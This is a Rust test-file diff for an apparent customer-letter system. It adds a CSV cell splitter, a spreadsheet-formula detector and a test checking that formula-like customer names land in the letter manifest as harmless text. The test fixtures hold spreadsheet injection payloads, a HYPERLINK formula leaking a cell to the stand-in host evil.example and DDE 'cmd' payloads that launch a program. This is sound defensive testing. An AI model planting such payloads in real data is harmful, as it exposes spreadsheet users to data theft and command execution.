@@ -508,15 +508,14 @@ fn manifest_rows(path: &Path) -> Vec<BTreeMap<String, String>> {
     let text = std::fs::read_to_string(path)
         .unwrap_or_else(|e| panic!("manifest {}: {e}", path.display()));
     let mut lines = text.lines();
-    let header: Vec<&str> = lines.next().expect("a header").split(',').collect();
+    let header = cells_as_split_by(lines.next().expect("a header"), ',');
     assert_eq!(header[..2], ["sequence", "message"], "{text}");
     lines
         .map(|l| {
-            // No field of these fixtures holds a comma or a quote.
             header
                 .iter()
-                .zip(l.split(','))
-                .map(|(k, v)| (k.to_string(), v.to_string()))
+                .cloned()
+                .zip(cells_as_split_by(l, ','))
                 .collect()
         })
         .collect()
@@ -1301,4 +1300,121 @@ async fn every_letter_lands_in_a_complete_batch_even_past_the_days_99th() {
         refused.len()
     );
     assert_eq!((pdfs.len(), &pdfs), (LETTERS, &csvs));
+}
+
+// ----- files people open in a spreadsheet ------------------------------------------------
+
+/// The cells of a CSV line as a spreadsheet splits them with `delimiter`:
+/// quoted fields whole (`""` a quote), the rest cut at every `delimiter`.
+fn cells_as_split_by(line: &str, delimiter: char) -> Vec<String> {
+    let mut cells = vec![String::new()];
+    let mut quoted = false;
+    let mut chars = line.chars().peekable();
+    while let Some(c) = chars.next() {
+        let cell = cells.last_mut().expect("a cell");
+        match c {
+            '"' if quoted && chars.peek() == Some(&'"') => {
+                chars.next();
+                cell.push('"');
+            }
+            '"' => quoted = !quoted,
+            c if c == delimiter && !quoted => cells.push(String::new()),
+            c => cell.push(c),
+        }
+    }
+    cells
+}
+
+/// Whether a spreadsheet would take a cell as a formula: it begins, after
+/// blanks, with `=`, `+`, `-` or `@` and is not simply a number.
+fn is_formula(cell: &str) -> bool {
+    let t = cell.trim_start();
+    let plain_number = t
+        .strip_prefix(['+', '-'])
+        .unwrap_or(t)
+        .chars()
+        .all(|c| c.is_ascii_digit() || c == '.' || c == ',');
+    t.starts_with(['=', '+', '-', '@', '\t', '\r']) && !plain_number
+}
+
+/// Customer names that are spreadsheet formulas reach the lettershop's
+/// manifest as text: kept, but led by `'`, quoted where they hold a
+/// separator, so that neither a comma nor a semicolon spreadsheet runs any
+/// of them, whichever separator it splits the lines at.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn formulas_in_customer_names_reach_the_letter_manifest_as_text() {
+    let rig = Rig::start(&["s001"]);
+    let names = [
+        "=HYPERLINK(\"http://evil.example/?\"&A1;\"Rechnung\")",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "-2+3+cmd|' /C calc'!A0",
+        "+49 89 1234567",
+        "Kundin;=1+2",
+        "Kundin,@A1",
+    ];
+    let mut csv = String::from(
+        "Kundennummer;Anrede;Vorname;Nachname;Firma;Straße;PLZ;Ort;E-Mail;Telefon;Geburtsdatum;FIN;Marke;Modell;Erstzulassung;Letzter Service;km-Stand;Nächste HU;Garantieende;Einwilligung E-Mail;Einwilligung Post;Einwilligungsdatum\r\n",
+    );
+    for (i, name) in names.iter().enumerate() {
+        csv.push_str(&format!(
+            "K-{no};Frau;;\"{name}\";;Postweg {house};{plz};München;;;;WNWZZZ3CZNB{vin:06};Nordwagen;Fjord;15.03.2022;20.01.2026;12.000;10.12.2026;;nein;ja;01.02.2024\r\n",
+            no = 4000 + i,
+            name = name.replace('"', "\"\""),
+            house = i + 1,
+            plz = 80331 + i,
+            vin = 400_000 + i,
+        ));
+    }
+    let export = rig.d.dir.path().join("kunden-formeln.csv");
+    std::fs::write(&export, csv).expect("write export");
+    rig.import("s001", &export).await;
+    let planned = rig.plan("s001", day(2026, 11, 16)).await;
+    assert_eq!(planned.len(), names.len(), "{:#?}", planned.keys());
+    assert!(planned.values().all(|m| m.channel == Channel::Post));
+    let batches = rig
+        .client()
+        .await
+        .run_batches(Some(&tid("s001")))
+        .await
+        .expect("run batches");
+    assert_eq!(batches.len(), 1, "{batches:?}");
+    let m = rig.message("s001", planned["K-4000"].id).await;
+    let manifest = rig
+        .d
+        .state_dir
+        .join("letters/s001")
+        .join(&m.dispatch.batch)
+        .with_extension("csv");
+    let text = std::fs::read_to_string(&manifest).expect("manifest");
+
+    for delimiter in [',', ';'] {
+        for line in text.lines() {
+            let formulas: Vec<String> = cells_as_split_by(line, delimiter)
+                .into_iter()
+                .filter(|c| is_formula(c))
+                .collect();
+            assert!(
+                formulas.is_empty(),
+                "split at {delimiter:?}, {line:?} has formulas {formulas:?}"
+            );
+        }
+    }
+    let mut in_manifest: Vec<String> = text
+        .lines()
+        .skip(1)
+        .map(|l| cells_as_split_by(l, ',')[3].clone())
+        .collect();
+    in_manifest.sort();
+    let mut expected: Vec<String> = names
+        .iter()
+        .map(|n| {
+            if n.starts_with(['=', '+', '-', '@']) {
+                format!("'{n}")
+            } else {
+                n.to_string()
+            }
+        })
+        .collect();
+    expected.sort();
+    assert_eq!(in_manifest, expected, "{text}");
 }
